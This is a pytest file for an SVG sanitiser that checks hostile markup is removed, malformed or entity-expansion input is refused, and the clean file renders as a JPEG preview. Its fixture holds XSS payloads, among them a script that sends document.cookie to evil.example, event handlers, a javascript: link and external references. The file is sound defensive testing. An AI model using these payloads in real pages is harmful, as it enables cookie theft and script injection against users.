"""SVG from outside, made safe before it is saved or shown, and drawn as a raster by a real renderer."""

from __future__ import annotations

import io

import pytest
from PIL import Image

from openai_images import imagefiles, svgfiles

LOGO = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 200 100" onload="alert(1)">
  <script>fetch('https://evil.example/?' + document.cookie)</script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#c00"/></linearGradient></defs>
  <rect width="200" height="100" fill="url(#g)" onclick="steal()"/>
  <circle cx="50" cy="50" r="40" fill="#0a0"/>
  <use href="#g"/>
  <image href="https://evil.example/pixel.png" width="10" height="10"/>
  <image xlink:href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>
  <a href="javascript:alert(2)"><text x="10" y="90">Cafe</text></a>
  <foreignObject width="10" height="10"><div xmlns="http://www.w3.org/1999/xhtml">hi</div></foreignObject>
  <g style="fill: url(https://evil.example/x.svg#p)"><rect width="5" height="5"/></g>
  <style>@import url(https://evil.example/a.css); rect { fill: url(#g) }</style>
</svg>"""


def test_everything_that_runs_or_reaches_out_is_removed_and_said():
    clean = svgfiles.sanitise(LOGO)
    text = clean.data.decode()
    for gone in ("<script", "onload", "onclick", "evil.example", "javascript:", "foreignObject", "@import"):
        assert gone not in text, gone
    for kept in ('href="#g"', "data:image/png;base64", "<circle", "url(#g)", ">Cafe<"):
        assert kept in text, kept
    assert clean.view_box == "0 0 200 100" and (clean.width, clean.height) == (200, 100)
    assert len(clean.removed) >= 7 and any("<script>" in line for line in clean.removed)
    assert svgfiles.sanitise(clean.data).removed == [], "sanitising is done in one pass"


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"not xml at all", "not well-formed"),
        (b"<html><body/></html>", "not <svg>"),
        (
            b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
            "not well-formed",
        ),
    ],
)
def test_what_is_not_a_plain_svg_document_is_refused(data, reason):
    with pytest.raises(svgfiles.NotSvg, match=reason):
        svgfiles.sanitise(data)


def test_the_preview_is_a_raster_drawn_from_the_svg():
    jpeg, _ = imagefiles.preview_of(svgfiles.sanitise(LOGO).data)
    with Image.open(io.BytesIO(jpeg)) as drawn:
        assert drawn.format == "JPEG" and drawn.size == (512, 256)
        red, green, blue = drawn.convert("RGB").getpixel((128, 128))  # the middle of the green circle
        assert green > 120 and red < 80 and blue < 80
